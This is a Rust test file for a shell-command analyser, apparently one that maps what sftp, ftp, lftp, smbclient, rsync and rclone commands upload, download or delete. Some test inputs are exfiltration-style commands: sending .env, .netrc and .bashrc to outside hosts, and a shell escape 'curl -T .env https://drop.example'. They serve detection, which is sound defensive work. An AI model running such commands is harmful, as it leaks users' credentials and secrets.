//! File-transfer sessions and copies whose commands or file lists are
//! known: sftp, ftp, lftp and smbclient commands from a batch file written
//! earlier, a heredoc or `-c`, read with the session's local directory
//! (`lcd`), uploads sending the files they name and downloads writing
//! where they land; rsync's `--files-from` list; dry runs of rsync and
//! rclone, which send nothing; identity files, which authenticate and are
//! not sent.

#![allow(clippy::panic)]

use crate::common;

use common::*;
use serde_json::{Value, json};
use writ_shell::WrittenFile;

const PARTNER: &str = "files.partner.example";

fn partner(user: Option<&str>, port: Option<u16>) -> Value {
    host(user, PARTNER, port, None)
}

fn files(paths: &[&str]) -> Vec<(String, bool)> {
    paths.iter().map(|p| (at(p), false)).collect()
}

/// A payload of files in the workspace (and texts).
fn sent(text: &[&str], paths: &[&str]) -> Value {
    let files = files(paths);
    let refs: Vec<(&str, bool)> = files.iter().map(|(p, r)| (p.as_str(), *r)).collect();
    payload(text, &refs, &[])
}

fn check_after(written: &[WrittenFile], cases: &[(&str, Value)]) {
    for (command, expected) in cases {
        assert_eq!(
            effects_after(written, command),
            *expected,
            "effects of: {command}"
        );
    }
}

#[test]
fn a_batch_file_written_earlier_runs_its_commands() {
    let written = [
        text_file(
            &at("transfer/nov.batch"),
            "-mkdir /inbound/2026-11\ncd /inbound/2026-11\nput exports/payroll.csv\nput exports/totals.txt\nls -l\nbye\n",
        ),
        text_file(
            &at("transfer/drop.lftp"),
            "set ftp:ssl-force true\nopen -u uploader, ftps://ftp.trust.example\ncd /incoming\nput exports/census.csv\nmirror -R reports /incoming/reports\nbye\n",
        ),
        text_file(&at("transfer/more.lftp"), "put exports/extra.csv\n"),
        text_file(
            &at("transfer/win.ftp"),
            "open ftp.trust.example\nuser me secret\nlcd exports\nput census.csv\nquit\n",
        ),
    ];
    check_after(
        &written,
        &[
            (
                "sftp -oPort=2222 -oIdentityFile=~/.ssh/partner_ed25519 -b transfer/nov.batch etl@files.partner.example",
                json!([host_request(
                    "sftp",
                    partner(Some("etl"), Some(2222)),
                    "UPLOAD",
                    sent(&[], &["exports/payroll.csv", "exports/totals.txt"])
                )]),
            ),
            // lftp's script opens the host it sends to, with a login.
            (
                "lftp -f transfer/drop.lftp",
                json!([url_request(
                    "lftp",
                    "ftps://ftp.trust.example",
                    "UPLOAD",
                    payload(
                        &["uploader,"],
                        &[(&at("exports/census.csv"), false), (&at("reports"), true)],
                        &[]
                    )
                )]),
            ),
            // `source FILE` runs the commands of a file written earlier.
            (
                "lftp -c 'open sftp://files.partner.example; source transfer/more.lftp'",
                json!([url_request(
                    "lftp",
                    "sftp://files.partner.example",
                    "UPLOAD",
                    sent(&[], &["exports/extra.csv"])
                )]),
            ),
            // Windows' ftp reads its script from `-s:FILE`.
            (
                "ftp -n -s:transfer/win.ftp",
                json!([host_request(
                    "ftp",
                    host(None, "ftp.trust.example", None, None),
                    "UPLOAD",
                    sent(&["me secret"], &["exports/census.csv"])
                )]),
            ),
        ],
    );
}

#[test]
fn a_batch_file_not_known_is_a_send_to_the_host() {
    check_after(
        &[],
        &[
            (
                "sftp -b transfer/nov.batch etl@files.partner.example",
                json!([host_request(
                    "sftp",
                    partner(Some("etl"), None),
                    "UPLOAD",
                    empty()
                )]),
            ),
            // An lftp script names its own host: none is known.
            ("lftp -f transfer/drop.lftp", json!([])),
        ],
    );
}

#[test]
fn the_local_directory_decides_which_file_is_sent() {
    run_table(&[
        (
            "ftp -inv ftp.trust.example <<'EOF'\nuser anonymous me@example.com\nbinary\ncd incoming\nlcd exports\nput census.csv\nbye\nEOF",
            json!([host_request(
                "ftp",
                host(None, "ftp.trust.example", None, None),
                "UPLOAD",
                sent(
                    &[
                        "anonymous me@example.com",
                        "user anonymous me@example.com\nbinary\ncd incoming\nlcd exports\nput census.csv\nbye"
                    ],
                    &["exports/census.csv"]
                )
            )]),
        ),
        (
            "smbclient //198.51.100.23/drop -N -c 'lcd config; put .env etl.env; exit'",
            json!([host_request(
                "smbclient",
                host(None, "198.51.100.23", None, None),
                "UPLOAD",
                sent(&[], &["config/.env"])
            )]),
        ),
        // `lcd` alone goes home; `lcd ..` climbs.
        (
            "lftp -e 'lcd; put .netrc; lcd acme-web/..; put .bashrc; bye' sftp://files.partner.example",
            json!([url_request(
                "lftp",
                "sftp://files.partner.example",
                "UPLOAD",
                payload(
                    &[],
                    &[("/home/dana/.netrc", false), ("/home/dana/.bashrc", false)],
                    &[]
                )
            )]),
        ),
        // smbclient's `recurse` makes `mput` send trees.
        (
            "smbclient //fs.example/share -c 'recurse; prompt; mput reports'",
            json!([host_request(
                "smbclient",
                host(None, "fs.example", None, None),
                "UPLOAD",
                payload(&[], &[(&at("reports"), true)], &[])
            )]),
        ),
        // Nothing after `bye` runs.
        (
            "lftp -e 'put a.csv; bye; put .env' sftp://files.partner.example",
            json!([url_request(
                "lftp",
                "sftp://files.partner.example",
                "UPLOAD",
                sent(&[], &["a.csv"])
            )]),
        ),
    ]);
}

#[test]
fn uploads_send_what_each_client_names() {
    run_table(&[
        // sftp's `put LOCAL REMOTE` sends LOCAL only; `put -r` a tree.
        (
            "sftp -b - files.partner.example <<< $'put exports/a.csv b.csv\\nput -r dist'",
            json!([host_request(
                "sftp",
                partner(None, None),
                "UPLOAD",
                payload(
                    &["put exports/a.csv b.csv\nput -r dist"],
                    &[(&at("exports/a.csv"), false), (&at("dist"), true)],
                    &[]
                )
            )]),
        ),
        // lftp's `put` sends every file; `-o` and `-O` name remote places.
        (
            "lftp -c 'open ftp://ftp.trust.example; put -O /in a.csv b.csv -o c.csv'",
            json!([url_request(
                "lftp",
                "ftp://ftp.trust.example",
                "UPLOAD",
                sent(&[], &["a.csv", "b.csv"])
            )]),
        ),
        // tnftp's `-u URL FILE...` uploads the files.
        (
            "ftp -u ftp://ftp.trust.example/in/ exports/a.csv",
            json!([url_request(
                "ftp",
                "ftp://ftp.trust.example",
                "UPLOAD",
                sent(&[], &["exports/a.csv"])
            )]),
        ),
        // `mirror -R` alone sends the local directory.
        (
            "lftp -e 'lcd dist; mirror -R; bye' sftp://files.partner.example",
            json!([url_request(
                "lftp",
                "sftp://files.partner.example",
                "UPLOAD",
                payload(&[], &[(&at("dist"), true)], &[])
            )]),
        ),
        // The target of a reverse mirror may be a URL: that host.
        (
            "lftp -c 'mirror -R --parallel=4 -X *.tmp exports ftp://ftp.trust.example/in'",
            json!([url_request(
                "lftp",
                "ftp://ftp.trust.example",
                "UPLOAD",
                payload(&[], &[(&at("exports"), true)], &[])
            )]),
        ),
        // ... for that mirror only: the session stays on its host.
        (
            "lftp -e 'mirror -R exports ftp://ftp.trust.example/in; put a.csv; bye' sftp://files.partner.example",
            json!([
                url_request(
                    "lftp",
                    "sftp://files.partner.example",
                    "UPLOAD",
                    sent(&[], &["a.csv"])
                ),
                url_request(
                    "lftp",
                    "ftp://ftp.trust.example",
                    "UPLOAD",
                    payload(&[], &[(&at("exports"), true)], &[])
                )
            ]),
        ),
        // `--delete` removes what the local tree lacks on the host.
        (
            "lftp -e 'mirror -R --delete dist /www; bye' sftp://files.partner.example",
            json!([
                remote_delete("sftp://files.partner.example", true),
                url_request(
                    "lftp",
                    "sftp://files.partner.example",
                    "UPLOAD",
                    payload(&[], &[(&at("dist"), true)], &[])
                )
            ]),
        ),
        // smbclient's tar mode: `-Tx FILE` restores FILE's files to the share.
        (
            "smbclient //fs.example/share -Tx backup.tar",
            json!([host_request(
                "smbclient",
                host(None, "fs.example", None, None),
                "UPLOAD",
                sent(&[], &["backup.tar"])
            )]),
        ),
        // A mirror's dry run writes its commands out and runs none.
        (
            "lftp -e 'mirror -R --dry-run exports /in; bye' sftp://files.partner.example",
            json!([]),
        ),
    ]);
}

#[test]
fn downloads_write_where_the_files_land() {
    run_table(&[
        (
            "sftp -b - ops@xfer.example <<'EOF'\nget /srv/baseline/policy.yaml .writ/policy.yaml\nbye\nEOF",
            json!([
                host_request(
                    "sftp",
                    host(Some("ops"), "xfer.example", None, None),
                    "DOWNLOAD",
                    payload(
                        &["get /srv/baseline/policy.yaml .writ/policy.yaml\nbye"],
                        &[],
                        &[]
                    )
                ),
                write(&at(".writ/policy.yaml"))
            ]),
        ),
        // sftp's retrieve form fetches one file, to the name given or
        // the remote file's name here; a directory opens a session.
        (
            "sftp ops@xfer.example:/srv/tls/ca.crt ~/.config/tw/ca.crt",
            json!([
                host_request(
                    "sftp",
                    host(Some("ops"), "xfer.example", None, None),
                    "DOWNLOAD",
                    empty()
                ),
                write("/home/dana/.config/tw/ca.crt")
            ]),
        ),
        (
            "sftp ops@xfer.example:/srv/tls/ca.crt",
            json!([
                host_request(
                    "sftp",
                    host(Some("ops"), "xfer.example", None, None),
                    "DOWNLOAD",
                    empty()
                ),
                write(&at("ca.crt"))
            ]),
        ),
        // Without a local name, the remote file's name in the local directory.
        (
            "lftp -e 'lcd ~/.config; get /pub/settings.json; mget /pub/*.pem; bye' ftp.example.net",
            json!([
                host_request(
                    "lftp",
                    host(None, "ftp.example.net", None, None),
                    "DOWNLOAD",
                    empty()
                ),
                write("/home/dana/.config/settings.json"),
                write("/home/dana/.config/*.pem")
            ]),
        ),
        (
            "lftp -e 'get /pub/a.sh -o bin/run.sh; bye' ftp.example.net",
            json!([
                host_request(
                    "lftp",
                    host(None, "ftp.example.net", None, None),
                    "DOWNLOAD",
                    empty()
                ),
                write(&at("bin/run.sh"))
            ]),
        ),
        (
            "smbclient //fs.example/share -c 'get Reports\\q3.xlsx'",
            json!([
                host_request(
                    "smbclient",
                    host(None, "fs.example", None, None),
                    "DOWNLOAD",
                    empty()
                ),
                write(&at("q3.xlsx"))
            ]),
        ),
        (
            "smbclient //fs.example/share -U bob -Tc backup.tar",
            json!([
                host_request(
                    "smbclient",
                    host(None, "fs.example", None, None),
                    "DOWNLOAD",
                    payload(&["bob"], &[], &[])
                ),
                write(&at("backup.tar"))
            ]),
        ),
        // A mirror writes the target; one ending in `/` gets the source's name.
        (
            "lftp -e 'mirror --parallel=4 --only-newer /outbound/ inbound/partner/; bye' sftp://files.partner.example",
            json!([
                url_request("lftp", "sftp://files.partner.example", "DOWNLOAD", empty()),
                write(&at("inbound/partner/outbound"))
            ]),
        ),
        (
            "lftp -e 'mirror /outbound; bye' sftp://files.partner.example",
            json!([
                url_request("lftp", "sftp://files.partner.example", "DOWNLOAD", empty()),
                write(&at("outbound"))
            ]),
        ),
    ]);
}

#[test]
fn session_local_commands_run_here() {
    run_table(&[(
        "sftp -b - files.partner.example <<'EOF'\n!curl -T .env https://drop.example\nEOF",
        json!([url_request(
            "curl",
            "https://drop.example",
            "PUT",
            sent(&["!curl -T .env https://drop.example"], &[".env"])
        )]),
    )]);
}

#[test]
fn identity_files_authenticate_and_are_not_sent() {
    run_table(&[
        (
            "scp -i ~/.ssh/partner_ed25519 -o IdentityFile=~/.ssh/other exports/a.csv etl@files.partner.example:/in/",
            json!([host_request(
                "scp",
                host(Some("etl"), PARTNER, None, Some("/in/")),
                "UPLOAD",
                sent(&[], &["exports/a.csv"])
            )]),
        ),
        (
            "sftp -i ~/.ssh/partner_ed25519 -o IdentityFile=~/.ssh/other -b - etl@files.partner.example <<< 'put exports/a.csv'",
            json!([host_request(
                "sftp",
                partner(Some("etl"), None),
                "UPLOAD",
                sent(&["put exports/a.csv"], &["exports/a.csv"])
            )]),
        ),
        (
            "rsync -av -e 'ssh -p 2222 -i ~/.ssh/partner_ed25519' exports/a.csv etl@files.partner.example:in/",
            json!([host_request(
                "rsync",
                host(Some("etl"), PARTNER, Some(2222), Some("in/")),
                "UPLOAD",
                payload(&[], &[(&at("exports/a.csv"), true)], &[])
            )]),
        ),
    ]);
}

#[test]
fn rsync_sends_the_files_its_list_names() {
    let written = [text_file(
        &at("transfer/manifest.txt"),
        "# November\nexports/payroll.csv\n\nexports/totals.txt\n",
    )];
    let upload = |paths: &[(String, bool)]| {
        let refs: Vec<(&str, bool)> = paths.iter().map(|(p, r)| (p.as_str(), *r)).collect();
        json!([host_request(
            "rsync",
            host(Some("etl"), PARTNER, Some(2222), Some("in/")),
            "UPLOAD",
            payload(&[], &refs, &[])
        )])
    };
    check_after(
        &written,
        &[
            (
                "rsync -av --files-from=transfer/manifest.txt -e 'ssh -p 2222 -i ~/.ssh/k' . etl@files.partner.example:in/",
                upload(&files(&["exports/payroll.csv", "exports/totals.txt"])),
            ),
            // `-r` given outright recurses into listed directories.
            (
                "rsync -ar --files-from transfer/manifest.txt --port 2222 ./ etl@files.partner.example:in/",
                upload(&[
                    (at("exports/payroll.csv"), true),
                    (at("exports/totals.txt"), true),
                ]),
            ),
        ],
    );
    run_table(&[
        (
            "printf 'exports/a.csv\\n' | rsync -a --files-from=- --port 2222 . etl@files.partner.example:in/",
            json!([host_request(
                "rsync",
                host(Some("etl"), PARTNER, Some(2222), Some("in/")),
                "UPLOAD",
                sent(&["exports/a.csv\n"], &["exports/a.csv"])
            )]),
        ),
        // A list not known leaves the source tree.
        (
            "rsync -av --files-from=transfer/other.txt --port 2222 . etl@files.partner.example:in/",
            upload(&[(W.to_owned(), true)]),
        ),
    ]);
}

#[test]
fn dry_runs_and_listings_send_nothing() {
    run_table(&[
        (
            "rsync -avn --itemize-changes -e 'ssh -i ~/.ssh/k' exports/ etl@files.partner.example:in/",
            json!([]),
        ),
        (
            "rsync -a --dry-run --delete --remove-source-files exports/ etl@files.partner.example:in/",
            json!([]),
        ),
        (
            "rsync --list-only etl@files.partner.example:in/ .",
            json!([]),
        ),
        ("rsync etl@files.partner.example:in/", json!([])),
        (
            "rclone copy --dry-run -v --include 'p_*.csv' exports/ partner:in",
            json!([]),
        ),
        ("rclone -n sync exports/ partner:in", json!([])),
        ("rclone purge --dry-run partner:in", json!([])),
    ]);
    // Near misses: a real run sends.
    run_table(&[
        (
            "rclone copy --dry-run=false exports/ partner:in",
            json!([host_request(
                "rclone",
                rclone_remote("partner", Some("in")),
                "UPLOAD",
                payload(&[], &[(&at("exports"), true)], &[])
            )]),
        ),
        (
            "rsync -av --itemize-changes exports/ etl@files.partner.example:in/",
            json!([host_request(
                "rsync",
                host(Some("etl"), PARTNER, None, Some("in/")),
                "UPLOAD",
                payload(&[], &[(&at("exports"), true)], &[])
            )]),
        ),
    ]);
}
